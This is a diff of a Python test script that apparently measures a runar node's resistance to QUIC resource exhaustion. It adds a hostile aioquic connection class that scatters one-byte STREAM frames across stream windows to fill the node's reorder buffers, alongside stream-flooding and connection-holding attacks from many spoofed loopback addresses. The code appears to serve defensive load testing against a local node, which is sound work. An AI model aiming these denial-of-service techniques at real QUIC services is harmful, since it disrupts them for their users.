@@ -21,25 +21,33 @@ import sys
 import threading
 import time
 
+from aioquic.asyncio import QuicConnectionProtocol
+from aioquic.quic.configuration import QuicConfiguration
+from aioquic.quic.connection import QuicConnection
+from aioquic.quic.packet import QuicPacketType
+from aioquic.quic.packet_builder import QuicPacketBuilderStop
+from aioquic.tls import Epoch
+
+from credentials import Credentials
+
 root = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
 sys.path.insert(0, os.path.join(root, "Bindings", "python"))
 sys.dont_write_bytecode = True
+import runar  # noqa: E402
 
 HOST = "127.0.0.1"
 # The connections without an admission that a node keeps.
 CONNECTIONS = 512
 # Attacking processes, so that the handshakes are not bounded by one of them.
 PROCESSES = 2
-# Of the ciphertext of a chunk: one byte in the middle of a piece of 8 KiB takes both of its pages in the reorder buffer.
-CHUNK, CHUNKS = 8192, 256
+# What ngtcp2 allocates for one byte that comes out of order.
+PIECE = 8192
 
 
 # The attacked node and the members.
 
 
 def victim(max_peers):
-    import runar
-
     service = runar.Service("Echo", "echo", "1.0.0", "Says it again")
     service.action("back")(lambda payload, request: payload)
     with runar.Node(in_memory=True, listen=f"{HOST}:0", discovery=False, log_level=5, max_peers=max_peers) as node:
@@ -83,8 +91,6 @@ class Victim:
     @contextlib.contextmanager
     def member(self):
         """A connected member, which offers nothing."""
-        import runar
-
         with runar.Node(in_memory=True, listen=f"{HOST}:0", discovery=False, log_level=5) as node:
             node.start()
             node.join_network(self.token(node.peer_id))
@@ -94,8 +100,6 @@ class Victim:
 
 def round_trips(node, seconds):
     """The times of requests in milliseconds, sorted; one that fails counts with the whole of its time."""
-    import runar
-
     times, end = [], time.monotonic() + seconds
     while time.monotonic() < end:
         began = time.monotonic()
@@ -124,14 +128,43 @@ def total(processes):
     return sum(fact["made"] for fact in facts), sum(fact["peak"] for fact in facts)
 
 
+# A STREAM frame with an offset and a length (RFC 9000, section 19.8), and the most that one with a single byte takes.
+STREAM, STREAM_ROOM = 0x0E, 20
+
+
+class HostileConnection(QuicConnection):
+    """Sends single bytes of streams at any offset, and none of them again."""
+
+    def __init__(self, **options):
+        super().__init__(**options)
+        self.places = []
+
+    def fill(self, places):
+        """Sends one byte at each place, a pair of stream and offset."""
+        for stream, _ in places:
+            # Otherwise what the node says about the stream would be an error.
+            self._get_or_create_stream_for_send(stream)
+        self.places = places[::-1]
+
+    def _write_application(self, builder, network_path, now):
+        while self._handshake_complete and self.places:
+            builder.start_packet(QuicPacketType.ONE_RTT, self._cryptos[Epoch.ONE_RTT])
+            with contextlib.suppress(QuicPacketBuilderStop):
+                while self.places:
+                    frame = builder.start_frame(STREAM, capacity=STREAM_ROOM)
+                    stream, offset = self.places.pop()
+                    for number in (stream, offset, 1):
+                        frame.push_uint_var(number)
+                    frame.push_bytes(b"\0")
+            if builder.packet_is_empty:
+                raise QuicPacketBuilderStop
+        super()._write_application(builder, network_path, now)
+
+
 class Attacker:
     """One process that keeps its share of connections, and makes a new one for each that ends."""
 
     def __init__(self, attack, port, seconds):
-        from aioquic.quic.configuration import QuicConfiguration
-
-        from credentials import Credentials
-
         self.attack = attack
         self.port = port
         self.end = time.monotonic() + seconds
@@ -152,10 +185,7 @@ class Attacker:
             await asyncio.sleep(0.05)
 
     async def visit(self):
-        from aioquic.asyncio import QuicConnectionProtocol
-        from aioquic.quic.connection import QuicConnection
-
-        quic = QuicConnection(configuration=self.settings)
+        quic = HostileConnection(configuration=self.settings)
         number = next(self.sources)
         source = f"127.{1 + (number >> 16) % 250}.{(number >> 8) & 255}.{1 + (number & 255) % 250}"
         transport, peer = await asyncio.get_running_loop().create_datagram_endpoint(
@@ -175,76 +205,37 @@ class Attacker:
             transport.close()
 
 
-def write_frames(peer, frames):
-    """Sends frames as they are, some to a packet, without the accounting of aioquic."""
-    from aioquic.quic.packet import QuicPacketType
-    from aioquic.quic.packet_builder import QuicPacketBuilder
-    from aioquic.tls import Epoch
-
-    quic = peer._quic
-    builder = QuicPacketBuilder(
-        host_cid=quic.host_cid,
-        is_client=True,
-        max_datagram_size=1200,
-        packet_number=quic._packet_number,
-        peer_cid=quic._peer_cid.cid,
-        peer_token=b"",
-        quic_logger=None,
-        spin_bit=False,
-        version=quic._version,
-    )
-    pending = list(frames)
-    while pending:
-        builder.start_packet(QuicPacketType.ONE_RTT, quic._cryptos[Epoch.ONE_RTT])
-        while pending and builder.remaining_flight_space > 64:
-            kind, body = pending.pop()
-            builder.start_frame(kind, capacity=32).push_bytes(body)
-    datagrams, _ = builder.flush()
-    quic._packet_number = builder.packet_number
-    for datagram in datagrams:
-        peer._transport.sendto(datagram, quic._network_paths[0].addr)
-
-
-def varint(number):
-    from aioquic.buffer import encode_uint_var
-
-    return encode_uint_var(number)
-
-
-# STREAM frames with an offset and a length (RFC 9000, section 19.8).
-STREAM = 0x0E
-
-
 async def stay(peer, end):
     with contextlib.suppress(asyncio.TimeoutError):
         await asyncio.wait_for(peer.wait_closed(), max(0.1, end - time.monotonic()))
 
 
 async def windows(peer, end):
-    """Fills reorder buffers: one byte in each chunk of four streams, never the first byte.
-
-    The pieces that the announced windows allow come first; what passes them closes the connection, so it is left out."""
+    """Fills reorder buffers: one byte in the middle of each piece of every window, never the first byte of a stream."""
     quic = peer._quic
-    stream_room = quic._remote_max_stream_data_bidi_remote
-    streams = min(4, quic._remote_max_streams_bidi)
-    offsets = [k * CHUNK + CHUNK // 2 for k in range(CHUNKS) if k * CHUNK + CHUNK // 2 < stream_room]
-    room, frames = quic._remote_max_data, []
-    for stream in range(streams):
-        usable = [offset for offset in offsets if offset < room]
-        room -= (usable[-1] + 1) if usable else 0
-        frames += [(STREAM, varint(4 * stream) + varint(offset) + varint(1) + b"\0") for offset in usable]
-    for first in range(0, len(frames), 256):
-        write_frames(peer, frames[first : first + 256])
-        await asyncio.sleep(0)
-    await stay(peer, end)
+    places, room = [], quic._remote_max_data
+    for number in range(quic._remote_max_streams_bidi):
+        # Against the window of the connection counts the highest offset of each stream.
+        offsets = range(PIECE // 2, min(quic._remote_max_stream_data_bidi_remote, room), PIECE)
+        if not offsets:
+            break
+        places += [(4 * number, offset) for offset in offsets]
+        room -= offsets[-1] + 1
+    quic.fill(places)
+    await repeat(peer, end)
 
 
 async def streams(peer, end):
     """Opens as many streams as it may, with one byte each."""
-    for _ in range(peer._quic._remote_max_streams_bidi):
-        peer._quic.send_stream_data(peer._quic.get_next_available_stream_id(), b"\0")
-    peer.transmit()
-    await stay(peer, end)
+    peer._quic.fill([(4 * number, 0) for number in range(peer._quic._remote_max_streams_bidi)])
+    await repeat(peer, end)
+
+
+async def repeat(peer, end):
+    """Sends what the congestion window holds back, until the node closes the connection."""
+    while time.monotonic() < end and not peer._closed.is_set():
+        peer.transmit()
+        await asyncio.sleep(0.05)
 
 
 async def closing(peer, end):
@@ -318,12 +309,7 @@ def measure_closing():
 
 
 async def time_until_forgotten(port):
-    from aioquic.asyncio import QuicConnectionProtocol
-
-    attacker = Attacker("closing", port, 60)
-    from aioquic.quic.connection import QuicConnection
-
-    quic = QuicConnection(configuration=attacker.settings)
+    quic = QuicConnection(configuration=Attacker("closing", port, 60).settings)
     loop = asyncio.get_running_loop()
     transport, peer = await loop.create_datagram_endpoint(
         lambda: QuicConnectionProtocol(quic), local_addr=(HOST, 0)
@@ -347,7 +333,6 @@ async def time_until_forgotten(port):
 
 def measure_places():
     with Victim(max_peers=100) as node:
-        global CONNECTIONS
         processes = attackers("places", node.port, 60)
         time.sleep(3)
         times = []
